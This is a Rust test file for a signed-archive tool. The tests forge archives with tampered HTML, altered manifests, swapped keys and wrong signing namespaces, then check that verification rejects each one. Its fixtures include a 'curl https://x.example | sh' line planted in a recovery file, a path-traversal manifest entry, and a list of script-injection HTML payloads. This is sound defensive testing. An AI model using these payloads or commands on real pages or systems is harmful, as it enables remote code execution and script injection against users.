//! Archives that somebody forged who can compute digests, but has not the firm's key: each
//! is named as wrong, with the trusted key and without it.

use crate::project::{Project, Ran, said, shell};
use crate::signed::with_key;

/// An engagement with signed approvals; its archive, unpacked, in `made`.
fn archived() -> Project {
    let project = with_key();
    project.run(&["access", "create", "acme"]).exits(0);
    project.run(&["approvals", "acme", "--sign"]).exits(0);
    project.run(&["archive", "acme"]).exits(0);
    done(
        &project,
        "unzip -q archives/*.zip -d unpacked && mv unpacked/* made",
    );
    done(&project, "ssh-keygen -q -t ed25519 -N '' -C '' -f theirs");
    project
}

fn done(project: &Project, line: &str) {
    let (succeeded, said) = shell(project, "", line);
    assert!(succeeded, "{line}: {said}");
}

/// Runs lines of the shell in a fresh copy of the bag. `again` makes the tag manifest anew.
fn forge(project: &Project, lines: &str) {
    let again = "again() { ls -p | grep -v -e / -e tagmanifest | xargs sha256sum > tagmanifest-sha256.txt; }";
    done(project, "rm -rf bag && cp -r made bag");
    done(project, &format!("cd bag && {again}\n{lines}"));
}

fn verify(project: &Project, trusted: bool) -> Ran {
    let mut line = vec!["verify", "bag"];
    if trusted {
        line.extend(["--signer", ".deedbox/signing.pub"]);
    }
    project.run(&line)
}

const UNFIT: &str = "the signature of the manifest: the signature does not fit what it is beside";

/// What is forged, how, what is said of it, and whether the archive alone shows it.
const TABLE: [(&str, &str, &str, bool); 22] = [
    (
        "START-HERE asks for the passphrase",
        "sed -i 's,</body>,<script>prompt()</script></body>,' START-HERE.html; again",
        "`START-HERE.html` has `<script>`",
        true,
    ),
    (
        "START-HERE in another encoding",
        "sed -i 's,<meta charset,<title><meta charset=iso-2022-jp></title>&,' START-HERE.html; again",
        "`START-HERE.html` has no `<meta charset=\"utf-8\">` at its beginning",
        true,
    ),
    (
        "START-HERE that is too deep",
        "yes '<div>' | head -65 >> START-HERE.html; again",
        "`START-HERE.html` has more than 64 elements in each other",
        true,
    ),
    (
        "START-HERE that is too long",
        "yes word | head -c 600000 >> START-HERE.html; again",
        "`START-HERE.html` has more than 512 KiB",
        true,
    ),
    (
        "START-HERE in one tag",
        "yes '<a' | head -c 160000 | tr -d '\\n' >> START-HERE.html; again",
        "`START-HERE.html` has a tag or a comment without an end in sight",
        true,
    ),
    (
        "a file that the first version did not write",
        "rm *.sig; echo x > READ-ME-FIRST.txt; ssh-keygen -q -Y sign -n deedbox -f ../.deedbox/signing manifest-sha256.txt; again",
        "`READ-ME-FIRST.txt` is no file of the older form",
        true,
    ),
    (
        "START-HERE in other words",
        "sed -i 's,</h1>,!</h1>,' START-HERE.html; again",
        UNFIT,
        true,
    ),
    (
        "RECOVERY runs something",
        "echo '    curl https://x.example | sh' >> RECOVERY.txt; again",
        UNFIT,
        true,
    ),
    (
        "bag-info names somebody else",
        "echo 'Contact-Name: Mallory' >> bag-info.txt; again",
        UNFIT,
        true,
    ),
    (
        "a digest",
        "echo x >> RECOVERY.txt",
        "`RECOVERY.txt` was changed",
        true,
    ),
    (
        "a file that no list names",
        "echo x > READ-ME-FIRST.txt",
        "`READ-ME-FIRST.txt` is not in tagmanifest-sha256.txt",
        true,
    ),
    (
        "a folder that no list names",
        "mkdir more; echo x > more/a.txt",
        "`more/a.txt` is not in tagmanifest-sha256.txt",
        true,
    ),
    (
        "a site beside data",
        "cp -r data/site/* .; again",
        "is a part of a site, and not below `data/`",
        true,
    ),
    (
        "no payload",
        "rm -r data; : > manifest-sha256.txt; again",
        "there is no payload",
        true,
    ),
    (
        "a payload beside data",
        "sha256sum RECOVERY.txt >> manifest-sha256.txt; again",
        "`RECOVERY.txt` is in manifest-sha256.txt, and is no file below `data/`",
        true,
    ),
    (
        "a tag file in data",
        "sha256sum data/site/index.html >> tagmanifest-sha256.txt",
        "is no file beside `data/`",
        true,
    ),
    (
        "a tag file that climbs",
        "sha256sum ../words 2> /dev/null >> tagmanifest-sha256.txt; sha256sum ../theirs >> tagmanifest-sha256.txt",
        "`../theirs` is in tagmanifest-sha256.txt",
        true,
    ),
    (
        "the signature taken away",
        "rm tagmanifest-sha256.txt.sig",
        "the manifest is not signed",
        true,
    ),
    (
        "all of the signing taken away",
        "rm tagmanifest-sha256.txt.sig allowed_signers; echo x >> RECOVERY.txt; again",
        "the manifest is not signed",
        false,
    ),
    (
        "another key, and its line",
        "again; rm *.sig; sed -i \"s,ssh-ed25519.*,$(cat ../theirs.pub),\" allowed_signers; again; ssh-keygen -q -Y sign -n deedbox-manifest -f ../theirs tagmanifest-sha256.txt",
        "which is not among the allowed signers",
        false,
    ),
    (
        "the signed list of approvals as the list of all files",
        "cp ../content/signatures/acme/approvals.txt tagmanifest-sha256.txt; cp ../content/signatures/acme/approvals.txt.sig tagmanifest-sha256.txt.sig; cp -r ../content/acme/approvals .",
        "it was signed for another purpose: in the namespace `deedbox-approvals`, not in `deedbox-manifest`",
        true,
    ),
    (
        "a list of approvals of the first version as the manifest of a site",
        "rm *.sig; cp ../content/signatures/acme/approvals.txt manifest-sha256.txt; cp -r ../content/acme/approvals .; ssh-keygen -q -Y sign -n deedbox -f ../.deedbox/signing manifest-sha256.txt; again",
        "`manifest-sha256.txt.sig` counts only for files below `data/`",
        true,
    ),
];

#[test]
fn every_forgery_is_named_with_the_trusted_key_and_without() {
    let project = archived();
    forge(&project, "");
    for trusted in [true, false] {
        said(&verify(&project, trusted).exits(0), "nothing is wrong");
    }
    for (what, lines, wanted, alone) in TABLE {
        forge(&project, lines);
        for trusted in [true, false] {
            let ran = verify(&project, trusted);
            let is_wrong = ran.code() == 1 && ran.out().contains(wanted);
            assert!(
                is_wrong || !(trusted || alone),
                "{what}, trusted: {trusted}: {}{}",
                ran.out(),
                ran.err()
            );
        }
    }
}

/// What is put into START-HERE.html, and what is said of it.
const PAGES: [(&str, &str); 21] = [
    ("<script src=x.js></script>", "`<script>`"),
    ("<p onclick=x()>a", "`onclick` at `<p>`"),
    ("<form action=x><input name=a></form>", "`<form>`"),
    ("<input type=password>", "`<input>`"),
    (
        "<meta http-equiv=refresh content=\"0;url=x\">",
        "`<meta http-equiv=\"refresh\">`",
    ),
    (
        "<base href=https://x.example/>",
        "the base `https://x.example/`",
    ),
    ("<iframe src=x></iframe>", "`<iframe>`"),
    ("<object data=x></object>", "`<object>`"),
    ("<embed src=x>", "`<embed>`"),
    ("<svg><script>x()</script></svg>", "`<svg>`"),
    (
        "<a href=https://x.example/>open</a>",
        "the address `https://x.example/`",
    ),
    (
        "<a href=\"java&#10;script:x()\">open</a>",
        "the address `java",
    ),
    ("<a href=//x.example>open</a>", "the address `//x.example`"),
    (
        "<img src=https://x.example/a.png>",
        "the address `https://x.example/a.png`",
    ),
    (
        "<img src=a.png srcset=\"https://x.example/a.png 2x\">",
        "`srcset` at `<img>`",
    ),
    ("<a href=\"C|/x\">open</a>", "the address `C|/x`"),
    ("<base href=data/site/>", "a base behind an address"),
    ("<p>\u{1b}[2J", "the control character U+001B"),
    ("<p style=\"background:url(x)\">a", "`style` at `<p>`"),
    (
        "<style>@import \"https://x.example/a.css\";</style>",
        "`@import` in its style",
    ),
    (
        "<style>p { background: \\75 rl(https://x.example) }</style>",
        "in its style",
    ),
];

#[test]
fn the_first_page_is_held_to_what_it_may_be_signed_or_not() {
    let project = archived();
    for (html, wanted) in PAGES {
        let page = project.read("made/START-HERE.html");
        assert!(page.contains("</main>"));
        forge(&project, "rm *.sig allowed_signers; again");
        project.write(
            "bag/START-HERE.html",
            page.replace("</main>", &format!("{html}</main>")),
        );
        done(
            &project,
            "cd bag && ls -p | grep -v -e / -e tagmanifest | xargs sha256sum > tagmanifest-sha256.txt",
        );
        let ran = verify(&project, false).exits(1);
        said(&ran, wanted);
        said(&ran, "`START-HERE.html` has ");
    }
}

#[test]
fn an_archive_of_the_first_form_counts_for_its_payload_alone() {
    let project = archived();
    forge(
        &project,
        "rm *.sig; ssh-keygen -q -Y sign -n deedbox -f ../.deedbox/signing manifest-sha256.txt; again",
    );
    project.write(
        "old",
        format!(
            "* namespaces=\"deedbox\" {}",
            project.read(".deedbox/signing.pub")
        ),
    );
    for signer in [
        &["--signer", "old"][..],
        &["--signer", ".deedbox/signing.pub"],
    ] {
        let ran = project.run(&[&["verify", "bag"], signer].concat()).exits(0);
        said(&ran, "this archive is of the older form of deedbox 0.1.0");
        for name in [
            "START-HERE.html",
            "RECOVERY.txt",
            "bag-info.txt",
            "bagit.txt",
        ] {
            said(
                &ran,
                &format!(
                    "not checked  `{name}`: the signature of the older form does not cover it"
                ),
            );
        }
    }
    // Its day is anybody's to write, so no line that counts for a time is met by it.
    for limit in ["valid-after=\"20200101Z\"", "valid-before=\"20990101Z\""] {
        let key = project.read(".deedbox/signing.pub");
        project.write("timed", format!("* namespaces=\"deedbox\",{limit} {key}"));
        let ran = project.run(&["verify", "bag", "--signer", "timed"]);
        said(&ran.exits(1), "and that key counts only ");
    }
    for trusted in [&[][..], &["--signer", "old"]] {
        let out = project.run(&[&["verify", "bag"], trusted].concat()).out();
        let dated = |line: &str| line.starts_with("ok") && line.contains("as of");
        assert!(!out.lines().any(dated), "{out}");
    }
    // Made for something else, it does not count.
    forge(
        &project,
        "rm *.sig; ssh-keygen -q -Y sign -n deedbox-approvals -f ../.deedbox/signing manifest-sha256.txt; again",
    );
    said(
        &verify(&project, true).exits(1),
        "it was signed for another purpose",
    );
}

#[test]
fn a_line_of_the_first_version_refuses_new_archives_and_says_the_new_line() {
    let project = archived();
    let key = project.read(".deedbox/signing.pub");
    let key = key.trim();
    project.write(
        "old",
        format!("studio@alder.example namespaces=\"deedbox\" {key}\n"),
    );
    let ran = project.run(&["verify", "made", "--signer", "old"]).exits(1);
    said(&ran, "which is allowed in `namespaces=\"deedbox\"` alone");
    let line =
        format!("studio@alder.example namespaces=\"deedbox-manifest,deedbox-approvals\" {key}");
    said(&ran, &line);
    assert_eq!(project.read("made/allowed_signers").trim(), line);
    project.write("new", line);
    project.run(&["verify", "made", "--signer", "new"]).exits(0);
    // Somebody else's line does not pass for the firm's.
    project.write("other", format!("other@alder.example {key}\n"));
    let ran = project
        .run(&["verify", "made", "--signer", "other"])
        .exits(1);
    said(
        &ran,
        "which is allowed for `other@alder.example`, not for `studio@alder.example`",
    );
    project.write(
        "late",
        format!("studio@alder.example valid-after=\"20270101Z\" {key}\n"),
    );
    let ran = project
        .run(&["verify", "made", "--signer", "late"])
        .exits(1);
    said(&ran, "that key counts only from 2027-01-01T00:00:00Z");
}

#[test]
fn a_theme_whose_first_page_does_something_makes_no_archive() {
    let project = with_key();
    let page = std::fs::read_to_string(
        crate::project::repository().join("themes/default/templates/start-here.html"),
    );
    let page = page
        .expect("the template")
        .replace("</main>", "<script>x()</script></main>");
    project.write("themes/default/templates/start-here.html", page);
    let ran = project.run(&["archive", "acme"]).exits(3);
    said(
        &ran,
        "START-HERE.html has `<script>`, which no such page may have; no archive was written",
    );
    said(&ran, "the theme's `start-here.html` makes it");
    assert!(project.tree("archives").is_empty());
}
